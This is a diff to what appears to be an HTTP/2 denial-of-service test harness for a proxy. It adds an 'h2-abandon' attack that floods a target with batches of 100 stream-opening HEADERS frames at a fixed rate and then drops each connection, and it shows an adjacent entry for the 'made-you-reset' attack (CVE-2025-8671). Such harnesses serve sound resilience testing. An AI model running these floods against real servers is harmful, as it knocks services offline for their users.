@@ -37,6 +37,26 @@ export const http2Attacks: readonly Attack[] = [
         )),
   },
   {
+    name: "h2-abandon",
+    about: "opens streams and leaves them behind with their connection",
+    run: async (target) => {
+      await proveAdmitted(target);
+      return await repeat(target, { lanes: 4, perSecond: 40 }, async (lane) => {
+        const socket = await openHttp2(target, lane);
+        try {
+          const ids = streamIds(100);
+          await written(
+            socket,
+            bytes(...ids.map((id) => frame(HEADERS, END_HEADERS | END_STREAM, id, get(target)))),
+          );
+          await pause(5); // they are read before the end is
+        } finally {
+          socket.destroy();
+        }
+      });
+    },
+  },
+  {
     name: "h2-made-you-reset",
     about: "opens streams and makes the proxy reset each: a window that grows by 0 (CVE-2025-8671)",
     run: (target) =>
